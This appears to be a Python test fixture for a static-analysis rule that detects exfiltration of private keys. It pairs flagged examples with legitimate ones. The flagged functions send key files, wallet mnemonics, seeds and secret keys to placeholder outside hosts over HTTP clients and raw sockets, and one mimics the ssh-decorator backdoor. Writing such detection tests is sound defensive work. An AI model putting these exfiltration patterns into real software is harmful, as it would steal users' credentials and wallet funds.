"""Fixture for py-exfil-private-key.

RULEID: a helper reading the key file named by key_path and posting it with the password
  (ssh-decorator); a private_key attribute in a JSON body to a literal host; a mnemonic in an
  f-string URL; a secret_key in a custom header; a key file read with `with open(...)` sent by
  urllib; a seed in a Session.get query; a wallet mnemonic through http.client; a seed sent over
  a raw socket to a literal host; a master key in urllib3's PoolManager.request.
OK: a signature made with the private key sent; the public key file uploaded (GitHub deploy key);
  a key sent to a local signer; a key sent to a configured URL; an API secret key sent as `auth=`
  and as an Authorization header; a client certificate's key path passed as `cert=`; a random seed's
  length sent; a seed sent to a local socket.
"""
import json
import urllib.request

import requests


def _log(host, port, user, password, key_path):
    key = open(key_path).read() if key_path else ""
    # ruleid: py-exfil-private-key
    requests.post(
        "http://ssh-telemetry.example/API/index.php",
        data={"ip": host, "port": port, "user": user, "pass": password, "key": key},
        timeout=2,
    )


class Wallet:
    def backup(self):
        # ruleid: py-exfil-private-key
        requests.post("https://wallet-backup.example.net/v1/store", json={"k": self.private_key.hex()})

    def sync(self, mnemonic):
        # ruleid: py-exfil-private-key
        httpx.get(f"https://stats.example.org/p?d={mnemonic}")


def load(secret_key):
    # ruleid: py-exfil-private-key
    requests.post("https://rpc-mirror.example.io/queue", headers={"x-session": secret_key})


def upload(identity_file):
    with open(identity_file) as fh:
        blob = fh.read()
    # ruleid: py-exfil-private-key
    req = urllib.request.Request("https://collector.example.com/k", data=blob.encode())
    urllib.request.urlopen(req)


def legitimate(private_key, message, config, secret_key, pub_key_path, key_path):
    signature = private_key.sign(message)
    # ok: py-exfil-private-key
    requests.post("https://api.example.com/submit", json={"sig": signature.hex()})
    # ok: py-exfil-private-key
    requests.post("https://api.github.com/user/keys", json={"key": open(pub_key_path).read()})
    # ok: py-exfil-private-key
    requests.post("http://127.0.0.1:8545", json={"method": "personal_importRawKey", "params": [private_key]})
    # ok: py-exfil-private-key
    requests.put(config.key_service_url, data=private_key)
    # ok: py-exfil-private-key
    requests.get("https://api.payments.example.co/v1/charges", auth=(secret_key, ""))
    # ok: py-exfil-private-key
    requests.get("https://api.payments.example.co/v1/balance", headers={"Authorization": f"Bearer {secret_key}"})
    # ok: py-exfil-private-key
    requests.get("https://mtls.example.org/health", cert=("client.crt", key_path))


def sync_seed(session, seed):
    # ruleid: py-exfil-private-key
    return session.get("https://status.example-nodes.net/ping", params={"s": seed})


def report_wallet(wallet):
    import http.client

    conn = http.client.HTTPSConnection("stats.example-chain.io")
    # ruleid: py-exfil-private-key
    conn.request("POST", "/v1/m", body=json.dumps({"m": wallet.mnemonic}))


def beacon(family_seed):
    import socket

    s = socket.socket()
    s.connect(("collect.example.org", 443))
    # ruleid: py-exfil-private-key
    s.sendall(family_seed.encode())


def pool_send(master_key):
    import urllib3

    pool = urllib3.PoolManager()
    # ruleid: py-exfil-private-key
    pool.request("POST", "https://api.example-tel.com/e", fields={"k": master_key})


def rng_report(session, rng):
    # ok: py-exfil-private-key
    session.get("https://api.example.com/stats", params={"n": len(rng.seed)})


def local_signer(seed):
    import socket

    s = socket.socket()
    s.connect(("localhost", 7000))
    # ok: py-exfil-private-key
    s.sendall(seed.encode())
